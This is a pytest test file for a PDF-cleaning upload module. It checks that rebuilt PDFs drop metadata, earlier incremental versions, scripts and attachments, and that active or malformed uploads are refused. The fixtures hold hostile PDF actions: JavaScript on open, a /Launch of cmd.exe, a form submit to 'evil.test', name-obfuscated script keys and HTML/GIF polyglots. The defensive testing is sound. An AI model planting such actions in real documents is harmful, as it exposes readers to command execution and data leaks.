"""PDF is made anew: no script, no attachment, no author, no earlier version underneath."""

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from buurtbalans.cleaning.__main__ import MOST_TEXT, clean
from buurtbalans.cleaning.refusing import (
    ACTIVE_PDF,
    EMBEDDED_PDF,
    LOCKED,
    UNREADABLE,
    WRONG_CONTENT,
    Refused,
)
from tests.uploads.files import PLANTED, action, docx, note, pdf


def why(data):
    with pytest.raises(Refused) as refused:
        clean(".pdf", data)
    return str(refused.value)


def test_a_paper_comes_in_without_its_author_and_its_words_can_be_read():
    before = pdf("Wielewaal", extra=note(PLANTED))
    after, text = clean(".pdf", before)
    assert "Wielewaal" in text
    paper = PdfReader(io.BytesIO(after))
    assert "Wielewaal" in paper.pages[0].extract_text()
    assert not [value for value in (paper.metadata or {}).values() if PLANTED in str(value)]
    assert PLANTED.encode() not in after
    assert paper.pages[0]["/Annots"][0].get_object()["/Contents"] == "let op"


def test_what_an_earlier_version_said_is_gone():
    first = pdf("geheim")
    later = PdfWriter(io.BytesIO(first), incremental=True)
    later.pages[0][NameObject("/Contents")] = DictionaryObject()
    del later.pages[0]["/Contents"]
    out = io.BytesIO()
    later.write(out)
    assert b"geheim" in out.getvalue()
    assert b"geheim" not in clean(".pdf", out.getvalue())[0]


@pytest.mark.parametrize(
    ("catalog", "answer"),
    [
        ({"/OpenAction": action("/JavaScript", JS="app.alert(1)")}, ACTIVE_PDF),
        ({"/OpenAction": action("/Launch", F="cmd.exe")}, ACTIVE_PDF),
        ({"/OpenAction": action("/SubmitForm", F="http://evil.test")}, ACTIVE_PDF),
        ({"/AcroForm": DictionaryObject({NameObject("/XFA"): ArrayObject()})}, ACTIVE_PDF),
        ({"/AA": DictionaryObject({NameObject("/WC"): action("/JavaScript", JS="x")})}, ACTIVE_PDF),
        ({"/AF": ArrayObject()}, EMBEDDED_PDF),
    ],
)
def test_what_runs_or_hides_in_a_paper_is_refused(catalog, answer):
    assert why(pdf(catalog=catalog)) == answer


def test_a_script_under_a_spelled_out_name_is_refused():
    data = pdf(catalog={"/OpenAction": action("/JavaScript", JS="app.alert(1)")})
    assert why(data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")) in {ACTIVE_PDF, UNREADABLE}


def test_an_attachment_is_refused():
    assert why(pdf(extra=lambda writer: writer.add_attachment("lijst.xlsx", b"x"))) == EMBEDDED_PDF


def test_a_script_in_the_list_of_names_is_refused():
    names = ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")])
    tree = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})})
    assert why(pdf(catalog={"/Names": tree})) == ACTIVE_PDF


def test_a_paper_with_a_password_is_refused():
    def lock(writer):
        writer.encrypt("geheim", algorithm="RC4-128")

    assert why(pdf(extra=lock)) == LOCKED


@pytest.mark.parametrize(
    ("data", "answer"),
    [
        (b"", WRONG_CONTENT),
        (b"%PDF-1.7", UNREADABLE),
        (b"%PDF-1.7\n" + b"\x00" * 5000, UNREADABLE),
        (pdf()[: len(pdf()) // 2], UNREADABLE),
        (b"<html><script>alert(1)</script>" + pdf(), WRONG_CONTENT),
        (b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf(), WRONG_CONTENT),
        (pdf() + docx(), WRONG_CONTENT),
        (b"GIF89a" + pdf(), WRONG_CONTENT),
    ],
)
def test_what_is_no_paper_or_something_else_as_well_is_refused(data, answer):
    assert why(data) in {answer, UNREADABLE}


def test_no_more_words_are_read_than_can_be_looked_at():
    _, text = clean(".pdf", pdf("a" * 3 * MOST_TEXT))
    assert len(text) == MOST_TEXT
